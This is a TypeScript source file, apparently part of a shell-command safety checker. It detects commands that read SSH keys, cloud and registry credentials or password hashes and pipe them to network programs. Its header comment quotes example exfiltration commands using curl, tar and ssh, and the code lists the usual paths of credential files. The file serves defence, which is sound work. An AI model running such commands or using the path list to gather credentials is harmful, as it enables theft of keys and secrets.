/**
 * Secret files outside the root: SSH keys, cloud and registry credentials, password hashes. The
 * walk notes every word of a command that names one (or a folder holding one: `~/.ssh`, `~`), with
 * the program reading it; the `secret-exfiltration` rule then refuses the command if it also runs a
 * program that uses the network (see network.ts): `curl -F f=@~/.ssh/id_rsa`, `tar c ~/.ssh | ssh
 * host`, `cat ~/.aws/credentials | curl -d @- …`. Reading them without a network program in the
 * same command (`ls ~/.ssh`, `cat ~/.ssh/config`) is left to the OS sandbox.
 *
 * Not counted: programs that only look at names or metadata or use the file themselves (`ls`,
 * `chmod`, `ssh-add`, `ssh-keygen`, `rm`), option values that make a program authenticate with the
 * file (`ssh -i KEY`, `scp -i KEY`, `curl --key`, `--kubeconfig`, `--userconfig`), public keys
 * (`*.pub`), `known_hosts`, `authorized_keys` and `~/.ssh/config`, and what `ssh` runs remotely.
 */
import os from 'node:os';
import path from 'node:path';
import type { Node } from 'web-tree-sitter';
import { lookupIn, type Ctx, type Simple } from './context.js';
import { globRegex } from './kernel-state-rule.js';
import { candidates, START } from './paths.js';
import { DYN, wordsOf, type Word } from './words.js';

interface Secret {
  /** Path components (relative to a home directory, or to `/`). */
  path: readonly string[];
  /** What it holds, for the message. */
  what: string;
  /** Inside the folder, which names are secret (all when absent). */
  inside?: (name: string) => boolean;
  /** Names a pattern is tried against for `inside` (`~/.ssh/*`). */
  samples?: readonly string[];
}

const SSH_PUBLIC = /\.pub$|^known_hosts|^authorized_keys|^config$|^environment$/;

/** Secrets in a home directory (`~`, `/home/NAME`, `/Users/NAME`, `/root`). */
const HOME_SECRETS: readonly Secret[] = [
  { path: ['.ssh'], what: 'SSH keys', inside: (n) => !SSH_PUBLIC.test(n), samples: ['id_rsa', 'id_ed25519', 'id_ecdsa', 'key'] },
  { path: ['.aws'], what: 'AWS credentials' },
  { path: ['.config', 'gcloud'], what: 'Google Cloud credentials' },
  { path: ['.azure'], what: 'Azure credentials' },
  { path: ['.kube', 'config'], what: 'Kubernetes cluster credentials' },
  { path: ['.docker', 'config.json'], what: 'container registry credentials' },
  { path: ['.netrc'], what: 'login passwords (.netrc)' },
  { path: ['_netrc'], what: 'login passwords (.netrc)' },
  { path: ['.npmrc'], what: 'npm registry tokens' },
  { path: ['.pypirc'], what: 'PyPI credentials' },
  { path: ['.git-credentials'], what: 'stored git credentials' },
  { path: ['.gnupg'], what: 'GnuPG private keys' },
  { path: ['.config', 'gh', 'hosts.yml'], what: 'GitHub CLI tokens' },
];

/** Secrets of the machine. */
const SYSTEM_SECRETS: readonly Secret[] = [
  { path: ['etc', 'shadow'], what: 'password hashes' },
  { path: ['etc', 'gshadow'], what: 'password hashes' },
  { path: ['etc', 'shadow-'], what: 'password hashes' },
  { path: ['etc', 'gshadow-'], what: 'password hashes' },
  { path: ['etc', 'ssh'], what: 'SSH host keys', inside: (n) => /^ssh_host_.*_key$/.test(n), samples: ['ssh_host_rsa_key', 'ssh_host_ed25519_key'] },
  // Folders that hold home directories hold their keys.
  { path: ['home'], what: 'home directories, with their keys' },
  { path: ['Users'], what: 'home directories, with their keys' },
];

/** A private key by its usual name, wherever it lies. */
const KEY_NAME = /^id_(rsa|dsa|ecdsa|ed25519)(_sk)?$/;
const KEY_SAMPLES = ['id_rsa', 'id_ed25519', 'id_ecdsa', 'id_dsa'];

/** Does a path component (a glob pattern when `glob`) match a name? A pattern not starting with `.` skips dotfiles, as bash does. */
function matches(component: string, name: string, glob: boolean): boolean {
  if (!glob || !/[*?[]/.test(component)) return component === name;
  if (name.startsWith('.') && !component.startsWith('.')) return false;
  return globRegex(component).test(name);
}

/** The secret a path (as components under a base) names, is inside, or is a folder holding. */
function secretIn(parts: readonly string[], secrets: readonly Secret[], glob: boolean): string | null {
  for (const s of secrets) {
    const n = Math.min(parts.length, s.path.length);
    if (!s.path.slice(0, n).every((name, i) => matches(parts[i]!, name, glob))) continue; // i < n <= parts.length
    if (parts.length < s.path.length) return `a folder holding ${s.what}`;
    if (parts.length === s.path.length || !s.inside) return s.what;
    const name = parts[s.path.length]!; // parts.length > s.path.length
    const secret = glob && /[*?[]/.test(name) ? (s.samples ?? []).some((x) => matches(name, x, true)) : s.inside(name);
    if (secret) return s.what;
  }
  return null;
}

const split = (p: string): string[] => p.split('/').filter((c) => c !== '' && c !== '.');

/** What an absolute (or `~`-based) path holds that is secret, or null. */
function secretAt(p: string, glob: boolean): string | null {
  const parts = split(path.posix.normalize(p.startsWith('~') ? '/' + p.replace(/^~[^/]*/, '') : p));
  const last = parts.at(-1);
  // A pattern counts as a key name only when it is aimed at one (`id_*`), not when it matches anything (`*`).
  const key =
    last !== undefined && (glob && /[*?[]/.test(last) ? last.startsWith('id') && KEY_SAMPLES.some((k) => matches(last, k, true)) : KEY_NAME.test(last));
  if (key) return 'an SSH private key';
  if (p.startsWith('~')) return secretIn(parts, HOME_SECRETS, glob);
  const home = (process.env.HOME || os.homedir()).split('/').filter(Boolean);
  const homeLength =
    home.length > 0 && home.every((c, i) => parts[i] === c)
      ? home.length
      : /^(home|Users)$/.test(parts[0] ?? '') && parts.length >= 2
        ? 2
        : parts[0] === 'root'
          ? 1
          : -1;
  if (homeLength >= 0) return secretIn(parts.slice(homeLength), HOME_SECRETS, glob);
  if (parts.length === 0) return 'every file of the machine, secrets included';
  return secretIn(parts, SYSTEM_SECRETS, glob);
}

/** The paths a word may name: itself, `--opt=PATH`, `name=@PATH` (curl), `@PATH`, `field@PATH` (httpie). */
function pathsIn(text: string): string[] {
  const out = new Set([text]);
  const eq = text.indexOf('=');
  if (eq >= 0) out.add(text.slice(eq + 1));
  const at = text.indexOf('@');
  if (at >= 0) out.add(text.slice(at + 1));
  return (
    [...out]
      .map((p) => p.replace(/^[@<]/, '').replace(/;(type|filename|headers|encoder)=.*$/s, ''))
      // A folder only known at run time before a secret's path (`"f=@$HOME/.ssh/id_rsa"`, `$DIR/.aws`) is taken for a home.
      .map((p) => (p.startsWith(DYN + '/') ? '~' + p.slice(1) : p))
      .filter((p) => p !== '' && !p.includes(DYN) && !/\s/.test(p) && !/^[a-z][a-z0-9+.-]*:\/\//i.test(p) && !/^[^/~]*:/.test(p))
  );
}

/** What secret a word names, reads or holds, from the directories the command may be in. */
function secretWord(w: Word, ctx: Ctx): string | null {
  if (w.opaque) return null;
  for (const p of pathsIn(w.text)) {
    const places =
      p.startsWith('/') || p.startsWith('~')
        ? [p]
        : (candidates(
            p,
            (ctx.scope.cwd ?? []).filter((d) => d !== START),
          ) ?? []);
    for (const abs of places) {
      const what = secretAt(abs, w.glob);
      if (what) return what;
    }
  }
  return null;
}

/** Programs that only look at names or metadata, change them, or use a key themselves: what they name is not read out. */
const NOT_READING = new Set([
  'ls',
  'stat',
  'test',
  '[',
  'chmod',
  'chown',
  'chgrp',
  'touch',
  'mkdir',
  'du',
  'realpath',
  'readlink',
  'dirname',
  'basename',
  'echo',
  'printf',
  'wc',
  'rm',
  'rmdir',
  'unlink',
  'file',
  'cd',
  'pushd',
  'ssh-add',
  'ssh-keygen',
  'ssh-copy-id',
  'ssh',
  'sftp',
  'mosh',
  'autossh',
]);

/** Options of any program whose value is a file the program uses itself (to authenticate, or as its configuration). */
const OWN_FILE_LONG =
  /^--(kubeconfig|config|config-file|userconfig|globalconfig|identity|identity-file|key|key-file|keyfile|cert|certificate|private-key|password-file|netrc-file|credentials-file|ssh-key|ca-certificate|cacert|capath|proxy-key|proxy-cert|proxy-cacert|output|output-document|output-file|output-dir|dump-header|cookie-jar|cookie|load-cookies|save-cookies|trace|trace-ascii|stderr|directory-prefix)$/;
/** The same, short, by program. */
const OWN_FILE_SHORT: Record<string, string> = { scp: 'iFSo', rsync: '', curl: 'EKocDb', wget: 'OoaP' };

/** The words of a command's arguments that it reads as data (not option values it uses itself). */
function readWords(name: string, args: readonly Word[]): Word[] {
  const out: Word[] = [];
  const short = OWN_FILE_SHORT[name] ?? '';
  for (let i = 0; i < args.length; i++) {
    const w = args[i]!; // i < args.length
    const t = w.text;
    const long = /^(--[a-z0-9-]+)(=.*)?$/s.exec(t);
    if (long && OWN_FILE_LONG.test(long[1] ?? '')) {
      if (long[2] === undefined) i++;
      continue;
    }
    if (short && /^-[A-Za-z]$/.test(t) && short.includes(t[1]!)) {
      i++;
      continue;
    }
    if (short && /^-[A-Za-z].+/.test(t) && short.includes(t[1]!)) continue;
    out.push(w);
  }
  return out;
}

/** Input redirects of a command (`< FILE`), as words. */
export function inputRedirectWords(redirects: readonly Node[], ctx: Ctx): Word[] {
  const out: Word[] = [];
  for (const r of redirects) {
    if (r.type !== 'file_redirect') continue;
    if (!r.children.some((c) => c !== null && (c.type === '<' || c.type === '<>'))) continue;
    for (const dest of r.childrenForFieldName('destination')) out.push(...wordsOf(dest, lookupIn(ctx.scope)));
  }
  return out;
}

/** Notes the secrets a program reads: from its arguments and its input redirects. */
export function noteSecrets(name: string, args: readonly Word[], cmd: Simple, ctx: Ctx): void {
  const words = [...(NOT_READING.has(name) ? [] : readWords(name, args)), ...inputRedirectWords(cmd.redirects, ctx)];
  noteSecretWords(name, words, ctx);
}

/** Notes the secrets among words a program reads. */
export function noteSecretWords(program: string, words: readonly Word[], ctx: Ctx): void {
  for (const w of words) {
    const what = secretWord(w, ctx);
    if (what && !ctx.run.secrets.some((s) => s.word === w.source && s.program === program)) ctx.run.secrets.push({ word: w.source, program, what });
  }
}
